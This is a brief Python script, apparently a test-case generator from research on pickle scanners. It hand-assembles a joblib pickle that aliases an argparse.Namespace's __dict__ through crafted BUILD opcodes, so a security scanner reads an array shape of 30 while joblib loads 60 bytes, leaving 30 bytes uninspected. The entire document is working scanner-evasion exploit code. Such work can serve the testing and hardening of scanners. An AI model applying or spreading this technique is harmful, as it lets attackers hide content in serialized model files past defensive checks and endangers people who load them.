# No call and no items opcode touch the wrapper's state S = {} (memoized). An argparse.Namespace X
# gets S as its __dict__ by a slot-state BUILD (setattr(X, '__dict__', S)); a second BUILD on X
# with {'shape': (60,)} writes into X.__dict__, i.e. into S. The wrapper (shape (30,) from its
# __init__) is then BUILT with S: joblib reads 60 bytes, the scanner sees S = {} and skips 30.
import sys
from common import *
def BINPUT(i): return b'q'+bytes([i])
def BINGET(i): return b'h'+bytes([i])
hdr = b'\x80\x02'
hdr += b'}' + BINPUT(1) + b'0'
hdr += G('argparse','Namespace') + b')R' + b'N}' + U('__dict__') + BINGET(1) + b's\x86b'
hdr += b'}' + U('shape') + I(60) + b'\x85sb0'
hdr += G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(30) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR' + BINGET(1) + b'b'
run('d2_dict_alias.joblib', hdr + region(60, [0, 30]))
